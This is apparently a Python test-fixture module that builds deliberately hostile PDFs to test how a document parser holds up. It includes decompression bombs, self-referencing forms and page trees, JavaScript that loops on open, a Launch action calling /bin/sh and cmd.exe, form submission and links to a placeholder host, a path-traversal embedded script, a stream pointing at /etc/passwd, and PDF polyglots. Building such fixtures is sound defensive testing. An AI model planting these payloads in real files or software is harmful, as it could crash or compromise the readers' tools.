"""PDFs made to do harm: bombs, loops, things that act, and pages that no paper has."""

import base64
import functools
import zlib

from tests.small_files import IMAGE, pdf, pdf_of, printed, stream

MEGABYTE = 1_000_000
PLAN = printed([["SECTION F"], ["Speech and language therapy for 30 minutes each week from a therapist."]], ruled=False)
FONT = b"/Font<</F1 5 0 R>>"


@functools.cache
def zeros(megabytes: int) -> bytes:
    """So many megabytes of spaces, deflated; made of one block that is repeated, so that making it costs nothing."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + block * megabytes + b"\x03\x00" + b"\0" * 4


def _drawn_by(content: bytes, more: bytes = b"/Filter/FlateDecode", *objects: bytes) -> bytes:
    """A page whose content is packed already."""
    made = pdf_of(b"@", b"", *objects)
    return made.replace(stream(b"@"), stream(content, more))


def flate_bomb() -> bytes:
    return _drawn_by(zeros(700))


def flate_bomb_of_a_record() -> bytes:
    return _drawn_by(zeros(90))


def packed_twice() -> bytes:
    return _drawn_by(zlib.compress(zeros(900), 9), b"/Filter[/FlateDecode/FlateDecode]")


def bomb_in_letters() -> bytes:
    return _drawn_by(base64.a85encode(zeros(700)) + b"~>", b"/Filter[/ASCII85Decode/FlateDecode]")


def many_bombs() -> bytes:
    return pdf_of(PLAN, b"", *[stream(zeros(30), b"/Filter/FlateDecode") for _ in range(20)])


def contents_again_and_again() -> bytes:
    page = pdf_of(b" ".join([PLAN] * 60))
    return page.replace(b"/Contents 4 0 R", b"/Contents[" + b"4 0 R " * 20_000 + b"]")


def _form(number: int, drawn: bytes) -> bytes:
    return stream(drawn, b"/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</X %d 0 R>>%b>>"
                  % (number, FONT))


def nested_forms() -> bytes:
    """Each form draws the next twice: 30 of them are drawn a thousand million times."""
    forms = [_form(number + 1, b"/X Do /X Do") for number in range(6, 36)]
    return pdf_of(b"/X Do", b"/Resources<</XObject<</X 6 0 R>>%b>>" % FONT, *forms, _form(6, PLAN))


def form_that_draws_itself() -> bytes:
    return pdf_of(PLAN + b" /X Do", b"/Resources<</XObject<</X 6 0 R>>%b>>" % FONT, _form(6, b"/X Do"))


def count_of_pages() -> bytes:
    return pdf_of(PLAN).replace(b"/Count 1", b"/Count 1000000000")


def many_pages() -> bytes:
    kids = b"3 0 R " * 5000
    return pdf_of(PLAN).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[%b]/Count 5000" % kids)


def tree_of_pages() -> bytes:
    """Each branch has ten that are the same one: a hundred million pages."""
    kids = {number: b"%d 0 R " % (number + 1) * 10 for number in range(6, 13)}
    branches = [b"<</Type/Pages/Parent 2 0 R/Kids[%b]/Count %d>>" % (kids[number], 10 ** (13 - number))
                for number in kids]
    page = b"<</Type/Page/Parent 12 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<<%b>>>>" % FONT
    return pdf_of(PLAN, b"", *branches, page).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[6 0 R]/Count 100000000")


def pages_in_a_ring() -> bytes:
    return pdf_of(PLAN).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R 3 0 R]/Count 2")


def outlines_in_a_ring() -> bytes:
    ring = b"<</Title(x)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 7 0 R/Last 7 0 R>>"
    made = pdf_of(PLAN, b"", b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 99999>>", ring)
    return made.replace(b"/Pages 2 0 R>>", b"/Pages 2 0 R/Outlines 6 0 R>>", 1)


def xref_in_a_ring() -> bytes:
    made = pdf_of(PLAN)
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % made.rindex(b"xref\n0"))


def object_streams_in_a_ring() -> bytes:
    held = stream(b"6 0 7 0 <<>> <<>>", b"/Type/ObjStm/N 2/First 8/Extends 7 0 R")
    return pdf_of(PLAN, b"", held, held.replace(b"7 0 R", b"6 0 R"))


def endless_content() -> bytes:
    return pdf_of(b"q " * 300_000 + PLAN, deflated=True)


def letters_without_end() -> bytes:
    return pdf_of(b"BT /F1 1 Tf 1 0 0 1 9 9 Tm " + b"(xxxxxxxxxx) Tj " * 60_000 + b"ET", deflated=True)


def lines_without_end() -> bytes:
    return pdf_of(b"1 1 m 9 9 l S " * 400_000, deflated=True)


def huge_font() -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/Huge/FirstChar 0/LastChar 99999/Widths[%b]/FontDescriptor 7 0 R>>"
    return pdf_of(PLAN, b"/Resources<</Font<</F1 6 0 R>>>>", font % (b"500 " * 100_000),
                  b"<</Type/FontDescriptor/FontName/Huge/Flags 4/FontFile2 8 0 R>>",
                  stream(b"\0\1\0\0\xff\xff" + b"\xff" * 9_000_000, b"/Length1 999999999", deflated=True))


def font_of_control_characters() -> bytes:
    mapped = (b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange 3 beginbfchar <53> <202e> <45> <0000> "
              b"<43> <001b005b0032004a> endbfchar endcmap")
    return pdf_of(PLAN, b"/Resources<</Font<</F1 6 0 R>>>>",
                  b"<</Type/Font/Subtype/Type1/BaseFont/Hel#1b#5b2J#00vetica/ToUnicode 7 0 R>>", stream(mapped))


def _acting(action: bytes, *objects: bytes) -> bytes:
    made = pdf_of(PLAN, b"/AA<</O %b>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A %b>>]" % (action, action),
                  *objects)
    return made.replace(b"/Pages 2 0 R>>", b"/Pages 2 0 R/OpenAction %b>>" % action, 1)


def javascript() -> bytes:
    return _acting(b"<</S/JavaScript/JS(while(true){app.alert('x')})>>")


def launch() -> bytes:
    return _acting(b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>")


def link_out() -> bytes:
    return _acting(b"<</S/URI/URI(http://192.0.2.1/seen)>>")


def file_elsewhere() -> bytes:
    return _acting(b"<</S/GoToR/F<</Type/Filespec/FS/URL/F(http://192.0.2.1/x.pdf)>>/D[0/Fit]>>")


def form_that_submits() -> bytes:
    made = _acting(b"<</S/SubmitForm/F(http://192.0.2.1/x)/Flags 4>>", stream(b"<xdp/>"))
    return made.replace(b"/Type/Catalog", b"/Type/Catalog/AcroForm<</Fields[]/XFA 6 0 R>>", 1)


def embedded_files() -> bytes:
    made = pdf_of(PLAN, b"", b"<</Type/Filespec/F(../../run.sh)/EF<</F 7 0 R>>>>",
                  stream(b"#!/bin/sh\ntouch ran", b"/Type/EmbeddedFile"))
    return made.replace(b"/Pages 2 0 R>>", b"/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(x) 6 0 R]>>>>>>", 1)


def content_elsewhere() -> bytes:
    return pdf_of(PLAN).replace(stream(PLAN), b"<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream")


def _locked(how: bytes) -> bytes:
    trailer = b"/Encrypt 6 0 R/ID[<00><00>]"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<<%b>>>>" % FONT, stream(PLAN),
               b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", how, trailer=trailer)


def unusual_lock() -> bytes:
    return _locked(b"<</Filter/Unheard.Of/V 99/R 99/O(x)/U(x)/P -1>>")


def lock_of_nonsense() -> bytes:
    return _locked(b"<</Filter/Standard/V 5/R 6/Length 999999999/O(x)/U(x)/OE(x)/UE(x)/Perms(x)/P -1>>")


def _pictured(picture: bytes, page: bytes = b"") -> bytes:
    return pdf_of(b"q 300 0 0 200 0 0 cm /X Do Q", b"/Resources<</XObject<</X 6 0 R>>%b>>%b" % (FONT, page), picture)


def picture_of_a_billion_pixels() -> bytes:
    return _pictured(stream(zeros(1), b"/Type/XObject/Subtype/Image/Width 40000/Height 40000/ColorSpace/DeviceGray"
                                      b"/BitsPerComponent 8/Filter/FlateDecode"))


def jpeg_of_a_billion_pixels() -> bytes:
    return _pictured(stream(b"\xff\xd8\xff\xc0\x00\x0b\x08\x9c\x40\x9c\x40\x01\x01\x11\x00\xff\xd9",
                            b"/Type/XObject/Subtype/Image/Width 40000/Height 40000/ColorSpace/DeviceGray"
                            b"/BitsPerComponent 8/Filter/DCTDecode"))


def page_of_a_kilometre() -> bytes:
    made = _pictured(IMAGE).replace(b"[0 0 300 200]", b"[0 0 3000000 2000000]")
    return made.replace(b"300 0 0 200", b"3000000 0 0 2000000")


def page_of_no_size() -> bytes:
    return pdf_of(PLAN).replace(b"[0 0 300 200]", b"[0 0 -1e38 nan]")


def with_a_zip_behind() -> bytes:
    from tests.hostile.word import plain

    return pdf_of(PLAN) + plain()


def with_a_page_of_the_web() -> bytes:
    return pdf_of(PLAN).replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(1)</script><table><tr><td>x</table>\n")
